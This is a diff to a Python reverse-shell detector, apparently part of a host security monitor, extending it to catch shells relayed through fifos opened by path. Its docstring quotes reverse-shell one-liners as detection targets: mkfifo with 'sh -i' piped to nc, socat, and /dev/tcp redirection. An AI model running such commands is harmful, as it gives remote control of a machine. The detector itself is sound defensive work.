@@ -12,7 +12,7 @@ import re
 from collections import Counter, deque
 from collections.abc import Iterable
 
-from collector.events import ConnectEvent, Event, ExecEvent, SyscallEvent
+from collector.events import ConnectEvent, Event, ExecEvent, OpenEvent, SyscallEvent
 from detectors.base import Context, Detector, DetectorSpec, Finding, KernelHalf, register
 from detectors.catalog import stdio
 from detectors.catalog.common import in_any, outcome, parse_ip
@@ -200,7 +200,8 @@ class ReverseShell(Detector):
       that holds a network connection (connect, accept, or a socket on its own stdio) AND
       whose stdout/stderr is a pipe or fifo read by such a process (`mkfifo f; sh -i < f
       2>&1 | nc HOST PORT > f`, socat with a fifo, `nc ... | sh | nc ...`), whichever of
-      the exec and the connect comes first; the relay is any program;
+      the exec and the connect comes first; the relay is any program, and its ends are
+      its stdio at exec or fifos it opens by path;
     - the argv patterns: a shell redirecting to or from `/dev/tcp/` or `/dev/udp/` (`grep
       /dev/tcp/` is not flagged), `sh -i` piped into netcat/telnet/openssl, an
       interpreter with `-c`/`-e`/`-r` code that names a socket (`socket_markers`) and a
@@ -213,7 +214,7 @@ class ReverseShell(Detector):
 
     spec = DetectorSpec(
         id="reverse_shell",
-        kinds=frozenset({"syscall", "exec", "connect", "fork"}),
+        kinds=frozenset({"syscall", "exec", "connect", "fork", "open"}),
         title="Reverse Shell",
         description="an inet socket on fd 0-2 (dup, socket, accept, inherited), a shell "
                     "exec'd on a socket or relayed to one through pipes or fifos, "
@@ -254,6 +255,10 @@ class ReverseShell(Detector):
 
     def check(self, ctx: Context, ev: Event) -> Iterable[Finding]:
         st = ctx.state
+        if isinstance(ev, OpenEvent):  # the most frequent kind: fifos only
+            if ev.file_type == "fifo" and stdio.fifo_opened(st, ev):
+                yield from self._relays(ctx, ev)
+            return
         stdio.note_pids(st, ev, ctx.session.root_pid if ctx.session else None)
         if isinstance(ev, SyscallEvent):
             yield from self._dup(ev, ctx.params["ignore_unix_sockets"])
